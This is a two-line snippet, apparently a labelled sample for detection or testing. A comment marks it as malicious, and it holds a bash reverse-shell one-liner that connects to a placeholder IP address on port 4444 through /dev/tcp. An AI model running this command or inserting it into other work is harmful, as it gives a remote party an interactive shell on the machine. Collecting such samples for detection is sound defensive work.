# Malicious: bash reverse shell through /dev/tcp to a remote listener.
bash -i >& /dev/tcp/203.0.113.10/4444 0>&1
